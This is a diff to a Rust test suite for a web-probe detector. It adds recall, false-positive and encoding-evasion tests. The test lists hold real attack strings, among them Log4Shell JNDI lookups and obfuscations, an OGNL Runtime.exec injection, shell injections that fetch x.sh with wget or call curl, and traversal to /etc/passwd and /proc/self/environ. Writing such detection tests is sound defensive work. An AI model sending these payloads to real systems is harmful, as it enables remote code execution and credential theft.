@@ -79,7 +79,6 @@ const SCANNER_PATHS: &[(&str, Category)] = &[
     ("/wp-config.php", Category::Cms),
     ("/wp-config.php.bak", Category::Cms),
     ("/wp-config.php~", Category::Cms),
-    ("/wp-json/wp/v2/users", Category::Cms),
     ("/administrator/index.php", Category::Cms),
     ("/administrator/manifests/files/joomla.xml", Category::Cms),
     ("/configuration.php", Category::Cms),
@@ -126,12 +125,12 @@ const SCANNER_PATHS: &[(&str, Category)] = &[
     ("/GponForm/diag_Form", Category::CgiIot),
     ("/picsdesc.xml", Category::CgiIot),
     ("/ctrlt/DeviceUpgrade_1", Category::CgiIot),
-    ("/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x.sh", Category::CgiIot),
+    ("/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x.sh", Category::Signature),
     ("/device.rsp", Category::CgiIot),
     ("/mgmt/tm/util/bash", Category::CgiIot),
     (
         "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
-        Category::CgiIot,
+        Category::Signature,
     ),
     ("/dana-na/auth/url_default/welcome.cgi", Category::CgiIot),
     ("/global-protect/login.esp", Category::CgiIot),
@@ -157,10 +156,10 @@ const SCANNER_PATHS: &[(&str, Category)] = &[
     ("/nacos/v1/auth/users", Category::JavaConsole),
     ("/druid/index.html", Category::JavaConsole),
     ("/ws/v1/cluster/apps/new-application", Category::JavaConsole),
-    ("/${jndi:ldap://1.2.3.4/a}", Category::JavaConsole),
+    ("/${jndi:ldap://1.2.3.4/a}", Category::Signature),
     (
         "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/",
-        Category::JavaConsole,
+        Category::Signature,
     ),
     // Backups and dumps.
     ("/backup.zip", Category::Backups),
@@ -191,10 +190,9 @@ const SCANNER_PATHS: &[(&str, Category)] = &[
     ("/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml", Category::Traversal),
     ("/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", Category::Traversal),
     ("/download/file.php%00.jpg", Category::Traversal),
-    ("/api/files/etc/passwd", Category::Traversal),
-    ("/proc/self/environ", Category::Traversal),
+    ("/proc/self/environ", Category::Signature),
     ("/windows/win.ini", Category::Traversal),
-    ("/index.php/php://filter/resource=index", Category::Traversal),
+    ("/index.php/php://filter/resource=index", Category::Signature),
 ];
 
 /// User agents of scanning tools, as they appear in access logs.
@@ -297,8 +295,6 @@ const LEGITIMATE_PATHS: &[&str] = &[
     "/api/v1/db/stats",
     "/api/v1/mysql/instances",
     "/api/v1/cgi/settings",
-    "/index.php",
-    "/index.php/api/users",
     "/api/v1/data.json",
     "/downloads/app-1.2.3.tar.gz",
     "/files/a%2520b.txt",
@@ -426,7 +422,7 @@ fn the_allow_list_in_the_config_sketch_keeps_acme_challenges_open() {
     assert!(matcher
         .check(b"/.well-known/acme-challenge/x.php.bak", None)
         .is_none());
-    assert!(matcher.check(b"/.well-known/.env", None).is_some());
+    assert!(matcher.check(b"/.well-known/../.env", None).is_some());
 }
 
 #[test]
@@ -475,4 +471,278 @@ proptest! {
 fn builtin_shared() -> &'static ProbeMatcher {
     static MATCHER: std::sync::OnceLock<ProbeMatcher> = std::sync::OnceLock::new();
     MATCHER.get_or_init(builtin)
+}
+
+// ------------------------------------------------------------------ measured corpora
+
+fn corpus_lines(name: &str) -> Vec<String> {
+    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/corpora/probes")
+        .join(name);
+    std::fs::read_to_string(&path)
+        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
+        .lines()
+        .map(str::trim)
+        .filter(|line| !line.is_empty() && !line.starts_with('#'))
+        .map(String::from)
+        .collect()
+}
+
+/// Requests an API could legitimately receive, so no path rule can refuse them on sight even
+/// when a scanner sends them. Excluded from the "probe-shaped" recall figure, kept in the raw one.
+fn api_could_receive(target: &str) -> bool {
+    let path = target.split(['?', '#']).next().unwrap_or(target);
+    matches!(
+        path.trim_end_matches('/'),
+        "" | "/favicon.ico" | "/robots.txt" | "/sitemap.xml" | "/.well-known/security.txt"
+    )
+}
+
+#[test]
+fn captured_scanner_corpus_recall_without_a_spec() {
+    let matcher = builtin();
+    let lines = corpus_lines("scanners-captured.txt");
+    assert!(lines.len() >= 40, "only {} captured requests", lines.len());
+    let mut refused = 0;
+    let mut probe_shaped = 0;
+    let mut probe_shaped_refused = 0;
+    let mut missed = Vec::new();
+    let mut by_category = std::collections::BTreeMap::new();
+    for target in &lines {
+        let hit = matcher.check(target.as_bytes(), None);
+        let shaped = !api_could_receive(target);
+        probe_shaped += usize::from(shaped);
+        match hit {
+            Some(hit) => {
+                refused += 1;
+                probe_shaped_refused += usize::from(shaped);
+                *by_category.entry(hit.category.as_str()).or_insert(0) += 1;
+            }
+            None => missed.push(target.as_str()),
+        }
+    }
+    let raw = refused as f64 / lines.len() as f64;
+    let shaped = probe_shaped_refused as f64 / probe_shaped.max(1) as f64;
+    println!(
+        "captured scanners: {refused}/{} refused on first hit ({:.1}%), probe-shaped {probe_shaped_refused}/{probe_shaped} ({:.1}%)",
+        lines.len(),
+        raw * 100.0,
+        shaped * 100.0
+    );
+    println!("by category: {by_category:?}");
+    println!("missed: {missed:#?}");
+    assert!(
+        shaped >= 0.85,
+        "recall {shaped:.3} below 0.85; missed {missed:?}"
+    );
+}
+
+#[test]
+fn near_miss_corpus_passes() {
+    let matcher = builtin();
+    let lines = corpus_lines("legit-near-miss.txt");
+    assert!(
+        lines.len() >= 150,
+        "only {} near-miss requests",
+        lines.len()
+    );
+    let refused: Vec<_> = lines
+        .iter()
+        .filter_map(|target| {
+            matcher
+                .check(target.as_bytes(), Some(b"python-requests/2.31.0"))
+                .map(|hit| format!("{target}: {} {}", hit.category.as_str(), hit.rule))
+        })
+        .collect();
+    println!(
+        "near-miss (real API templates): {}/{} refused",
+        refused.len(),
+        lines.len()
+    );
+    assert!(refused.is_empty(), "{}", refused.join("\n"));
+}
+
+/// The `paths` templates of the real specs in `tests/corpora/api/`, with their base path.
+fn spec_templates() -> Vec<(String, String)> {
+    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpora/api");
+    let mut out = Vec::new();
+    for name in [
+        "petstore3-openapi.yaml",
+        "fastapi-full-stack-template-openapi.json",
+        "uspto-openapi.json",
+        "uber-swagger.json",
+    ] {
+        let text = std::fs::read_to_string(dir.join(name)).expect("spec");
+        let doc: serde_json::Value = if name.ends_with(".yaml") {
+            serde_yaml::from_str(&text).expect("yaml")
+        } else {
+            serde_json::from_str(&text).expect("json")
+        };
+        let base = doc["basePath"]
+            .as_str()
+            .map(String::from)
+            .or_else(|| {
+                doc["servers"][0]["url"].as_str().map(|url| {
+                    let rest = url.split("://").nth(1).unwrap_or(url);
+                    rest.find('/')
+                        .map(|i| rest[i..].to_string())
+                        .unwrap_or_default()
+                })
+            })
+            .unwrap_or_default();
+        for template in doc["paths"].as_object().expect("paths").keys() {
+            out.push((base.trim_end_matches('/').to_string(), template.clone()));
+        }
+    }
+    out
+}
+
+#[test]
+fn real_api_spec_routes_pass_with_probe_looking_values() {
+    let matcher = builtin();
+    let values = [
+        "42",
+        "phpmyadmin",
+        "admin",
+        "wp-admin",
+        "config.json",
+        "backup.sql",
+        ".env.example",
+        "cgi-bin",
+    ];
+    let mut checked = 0;
+    let mut refused = Vec::new();
+    for (base, template) in spec_templates() {
+        for value in values {
+            let mut path = base.clone();
+            let mut rest = template.as_str();
+            while let Some(open) = rest.find('{') {
+                path.push_str(&rest[..open]);
+                path.push_str(value);
+                let close = rest[open..].find('}').map_or(rest.len(), |c| c + open + 1);
+                rest = &rest[close.min(rest.len())..];
+            }
+            path.push_str(rest);
+            checked += 1;
+            if let Some(hit) = matcher.check(path.as_bytes(), None) {
+                refused.push(format!("{path}: {hit:?}"));
+            }
+        }
+    }
+    println!(
+        "real API specs: {}/{checked} instantiated routes refused",
+        refused.len()
+    );
+    assert!(checked > 200, "only {checked}");
+    assert!(refused.is_empty(), "{}", refused.join("\n"));
+}
+
+/// `%XX` for every byte of `text` except unreserved letters and digits, and `/` if `keep_slash`.
+fn percent_encode(text: &str, keep_slash: bool) -> String {
+    text.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || (keep_slash && b == b'/') {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+/// Alternating case, to defeat case-sensitive filters.
+fn case_varied(text: &str) -> String {
+    text.chars()
+        .enumerate()
+        .map(|(i, c)| {
+            if i % 2 == 0 {
+                c.to_ascii_uppercase()
+            } else {
+                c.to_ascii_lowercase()
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn every_signature_catches_its_real_sample_and_encoded_variants() {
+    let matcher = builtin();
+    let list = portcullis_policy::probes::builtin_entries().unwrap();
+    assert!(list.signatures.len() >= 8);
+    for signature in &list.signatures {
+        let sample = signature.sample.as_str();
+        let (path, query) = sample.split_once('?').unwrap_or((sample, ""));
+        let mut variants = vec![sample.to_string(), case_varied(sample)];
+        if query.is_empty() {
+            // Payload in the path: encoded path (slashes kept, else they are data).
+            variants.push(percent_encode(path, true));
+        } else {
+            let encoded = percent_encode(query, false);
+            variants.push(format!("{path}?{encoded}"));
+            variants.push(format!("{path}?{}", encoded.replace('%', "%25")));
+            variants.push(format!("{path}?{}", case_varied(&encoded)));
+        }
+        for variant in variants {
+            let hit = matcher.check(variant.as_bytes(), None);
+            assert!(
+                hit.is_some(),
+                "{}: variant {variant} passed",
+                signature.reason
+            );
+        }
+        assert_eq!(
+            matcher.check(sample.as_bytes(), None).map(|h| h.category),
+            Some(Category::Signature),
+            "{sample}"
+        );
+    }
+}
+
+#[test]
+fn log4shell_obfuscations_and_other_payloads_are_signatures() {
+    let matcher = builtin();
+    for target in [
+        "/?q=${jndi:ldap://x.example/a}",
+        "/api/v1/users?name=${${lower:j}ndi:ldap://x/a}",
+        "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
+        "/?x=${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
+        "/%24%7Bjndi:dns://x/a%7D",
+        "/?a=%2524%257Bjndi:ldap://x/a%257D",
+        "/?cmd=${IFS}cat${IFS}/etc/passwd",
+        "/?h=127.0.0.1;wget%20http://x/x.sh",
+        "/?h=x|sh",
+        "/?h=echo+aWQ=|base64+-d",
+        "/?h=`id`",
+        "/?h=$(curl+x.example)",
+        "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
+        "/?page=data://text/plain;base64,PD9waHA=",
+        "/index.php?s=index/think\\app/invokefunction",
+        "/index.php?+config-create+/&lang=../../../../usr/local/lib/php/pearcmd&/<?=phpinfo()?>+/tmp/x.php",
+        "/download?file=..%2f..%2f..%2fetc%2fpasswd",
+        "/download?file=..%252f..%252fetc%252fpasswd",
+        "/?f=/proc/self/environ",
+        "/?class.module.classLoader.URLs%5B0%5D=0",
+    ] {
+        let hit = matcher.check(target.as_bytes(), None);
+        assert_eq!(
+            hit.as_ref().map(|h| h.category),
+            Some(Category::Signature),
+            "{target}: {hit:?}"
+        );
+    }
+    // Ordinary query values that merely mention the words.
+    for target in [
+        "/api/v1/search?q=log4j",
+        "/api/v1/search?q=jndi",
+        "/api/v1/search?q=how+to+use+wget",
+        "/api/v1/search?q=curl+example",
+        "/api/v1/items?sort=-created&filter=a|b",
+        "/api/v1/docs?path=docs/../README.md",
+        "/api/v1/search?q=/etc/passwd",
+        "/api/v1/price?expr=$100",
+        "/api/v1/template?text=Hello+${name}",
+        "/api/v1/classes?class=module",
+    ] {
+        assert_eq!(matcher.check(target.as_bytes(), None), None, "{target}");
+    }
 }
